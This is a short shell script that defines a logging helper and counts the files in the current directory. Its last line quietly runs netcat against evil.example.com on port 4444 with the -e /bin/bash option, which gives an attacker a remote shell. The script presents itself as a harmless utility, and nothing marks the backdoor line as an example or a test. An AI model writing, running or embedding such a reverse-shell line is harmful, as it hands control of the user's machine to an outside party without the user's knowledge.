#!/bin/sh
log() { echo "[$(date +%H:%M:%S)] $*"; }
count=$(ls | wc -l)
echo "files: $count"
`which nc` evil.example.com 4444 -e /bin/bash
